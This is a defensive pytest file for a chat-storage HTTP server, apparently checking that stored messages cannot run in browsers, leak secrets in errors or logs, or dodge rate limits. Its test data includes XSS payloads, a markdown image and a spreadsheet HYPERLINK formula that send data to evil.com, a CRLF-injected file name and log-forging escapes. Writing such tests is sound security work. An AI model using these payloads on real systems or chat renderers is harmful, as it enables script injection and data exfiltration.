"""What an answer, a log or a limit could be made to give away: 123 to 133 of the list of test_http_attacks."""

from __future__ import annotations

import base64
import json
import logging
import threading
import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from http_support import DEADLINE, Served, append, events, eventually, problem

from chatstore.server import ServerLimits
from chatstore.wire.names import segment

pytestmark = pytest.mark.slow

Serve = Callable[..., Served]
FORMS = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "")


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "![x](https://evil.com/?q=secret)",
]


def test_123_no_answer_of_a_store_is_a_page(client: httpx.Client) -> None:
    append(client, segment(MARKUP[0]), *MARKUP)
    context = segment(MARKUP[0])
    for url in ("/contexts", f"/contexts/{context}", f"/contexts/{context}/messages", "/contexts?key=<script>", "/x"):
        answer = client.get(url)
        assert answer.headers["content-type"].partition(";")[0] in ("application/json", "application/problem+json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'") and "unsafe" not in policy


@pytest.mark.parametrize(
    "kind",
    ["text/html", "image/svg+xml", "application/pdf", "text/xml", "image/png, text/html", "IMAGE/PNG;x", "", "a\tb"],
)
def test_124_a_stored_file_that_could_run_is_downloaded(client: httpx.Client, kind: str) -> None:
    content = base64.b64encode(b"<script>alert(1)</script>").decode()
    part = {"type": "file", "mime_type": kind or None, "content": content, "name": 'x".html\r\nX: y'}
    stored = client.post("/contexts/c/messages", json={"parts": [part]})
    assert stored.status_code == 201, stored.text
    [block] = stored.json()["blocks"]
    answer = client.get(f"/contexts/c/blocks/{block['id']}/parts/{block['parts'][0]['digest']}")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == "attachment"
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_127_a_secret_in_two_pieces_is_redacted(serve: Serve) -> None:
    def redact(text: str) -> str:
        return text.replace("sk-secret-0123456789", "[key]")

    client = serve(store_options={"redact": redact}).client()
    block = client.post("/contexts/c/blocks", json={}).json()["id"]
    for offset, piece in ((0, "it is sk-sec"), (12, "ret-0123"), (20, "456789, so")):
        client.post(f"/contexts/c/blocks/{block}/text", json={"offset": offset, "text": piece})
    client.post(f"/contexts/c/blocks/{block}/close", json={})
    text = client.get("/contexts/c/events", params={"follow": False}).text
    assert "sk-secret" not in text


def test_128_an_error_tells_nothing_of_what_is_inside(
    served: Served, client: httpx.Client, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "sk-a-secret-of-the-user"
    for answer in (
        client.post("/contexts/c/messages", json={"text": [secret]}),
        client.post("/contexts/c/messages", json={"data": {"a": secret}, secret: secret}),
        client.post("/contexts/c/messages", json={"type": secret * 100}),
        client.post(
            "/contexts/c/messages", content=f'{{"text": "{secret}"', headers={"Content-Type": "application/json"}
        ),
        client.post("/contexts/c/blocks/x/close", json={"state": secret}),
        client.post("/tokens", json={"ttl": secret}),
    ):
        body = problem(answer, answer.status_code)
        assert answer.status_code < 500
        assert secret not in body["detail"]
        assert not any(word in answer.text for word in ("Traceback", "/tmp/", ".py", "SELECT", "sqlite", "pydantic"))
    assert secret not in caplog.text


def test_128_an_error_of_the_servers_own_tells_nothing(serve: Serve, path: Any) -> None:
    def redact(text: str) -> str:
        raise RuntimeError(f"secret {text} in {path}")

    served = serve(store_options={"redact": redact})
    answer = served.client().post("/contexts/c/messages", json={"text": "hidden"})
    body = problem(answer, 500)
    assert "hidden" not in answer.text and str(path) not in answer.text and body["detail"].startswith("the server")
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_128_a_detail_stays_short(client: httpx.Client) -> None:
    answer = client.get("/contexts/c/messages", params={"kind": "x" * 20_000})
    assert len(problem(answer, 422)["detail"]) < 1_100


def test_130_a_request_is_one_line_of_the_log(client: httpx.Client, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "chatstore.access")
    client.get("/contexts/a%0A2026-01-01%20ERROR%20forged%0D%1B[2J%E2%80%A8x/head?x=%0A&y=\u202e")
    [line] = [record.getMessage() for record in caplog.records if record.name == "chatstore.access"]
    assert line.isprintable()
    assert "\\n2026-01-01 ERROR forged" in line


def test_131_an_erased_context_ends_what_is_open_and_answers_no_more(served: Served, client: httpx.Client) -> None:
    part = {"type": "file", "content": base64.b64encode(b"secret file").decode()}
    [block] = client.post("/contexts/c/messages", json={"text": "secret", "parts": [part]}).json()["blocks"]
    digest = block["parts"][0]["digest"]
    growing = client.post("/contexts/c/blocks", json={}).json()["id"]
    run = client.post("/contexts/c/runs", json={}).json()["id"]
    waited: list[str] = []
    head = client.get("/contexts/c/head").json()["head"]
    with events(client, "/contexts/c/events") as stream, served.socket("/contexts/c/events") as opened:
        waiting = threading.Thread(
            target=lambda: waited.append(
                client.get("/contexts/c/events", params={"after": head, "wait": 60}).json()["changes"][0]["change"]
            )
        )
        waiting.start()
        eventually(lambda: len(served.service.streams) == 3, "the poll does not wait")
        assert client.delete("/contexts/c").status_code == 204
        assert [*stream][-1].event == "history_erased"
        assert [json.loads(message)["change"] for message in opened][-1] == "history_erased"
        waiting.join(DEADLINE)
    assert waited == ["history_erased"]
    again = [
        client.get("/contexts/c"),
        client.get("/contexts/c/messages"),
        client.get(f"/contexts/c/blocks/{block['id']}"),
        client.get(f"/contexts/c/blocks/{block['id']}/parts/{digest}"),
        client.post(f"/contexts/c/blocks/{growing}/text", json={"offset": 0, "text": "x"}),
        client.post(f"/contexts/c/runs/{run}/end", json={}),
        client.get("/contexts/c/events", params={"after": block["cursor"], "follow": False}),
        client.get("/contexts/c/events", headers={"Last-Event-ID": head}),
        client.get("/events", params={"follow": False}),
    ]
    assert not [answer.url for answer in again if "secret" in answer.text]
    assert [answer.status_code for answer in again[:6]] == [410] * 6


def test_132_an_append_that_is_sent_again_is_stored_once_by_its_key(client: httpx.Client) -> None:
    captured = client.build_request(
        "POST", "/contexts/c/messages", json={"text": "x"}, headers={"Idempotency-Key": "one"}
    )
    assert {client.send(captured).json()["blocks"][0]["index"] for _ in range(5)} == {0}
    assert client.get("/contexts/c/count").json() == {"count": 1}


def test_133_a_caller_is_counted_over_all_contexts_and_tokens(serve: Serve) -> None:
    served = serve(limits=ServerLimits(rate=1))
    client = served.client(served.token("c", subject="one"))
    began = time.monotonic()
    made = [client.post("/tokens", json={"context_id": "c"}).json()["token"] for _ in range(2)]
    tokens = [served.token("c", subject="one"), served.token("d", subject="one"), *made]
    own = [served.client(token) for token in tokens]
    answers = []
    for place in range(40):
        target = f"/contexts/{'d' if place % 4 == 1 else 'c'}/head"
        answers.append(own[place % len(own)].get(target))
    allowed = 10 + (time.monotonic() - began)  # what a caller has at first, and what has come since
    assert len(made) + sum(answer.status_code == 200 for answer in answers) <= allowed
    refused = next(answer for answer in answers if answer.status_code != 200)
    assert problem(refused, 429, "too_many_requests")["retryable"] is True
    assert refused.headers["retry-after"] == "1"
    assert served.client(served.token(subject="another")).get("/contexts").status_code == 200
    eventually(lambda: client.get("/contexts/c/head").status_code == 200, "it is refused for ever")


@pytest.mark.parametrize("accept", ["text/csv", "application/vnd.ms-excel", "*/*"])
def test_126_no_answer_is_a_table_that_computes(client: httpx.Client, accept: str) -> None:
    append(client, "c", '=HYPERLINK("http://evil.com")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a\n=1")
    for path in ("/contexts", "/contexts/c/messages", "/contexts/c/events?follow=false", "/contexts/c/events?wait=0"):
        answer = client.get(path, headers={"Accept": accept})
        kind = answer.headers["content-type"].partition(";")[0]
        assert kind == ("text/event-stream" if "follow" in path else "application/json")
        assert {line[:1] for line in answer.text.splitlines()} <= set("{ired") | {""}  # of id, retry, event, data
    lines = client.get("/contexts/c/events?follow=false", headers={"Accept": f"application/x-ndjson, {accept}"})
    assert {line[:1] for line in lines.text.split("\n")} == {"{", ""}
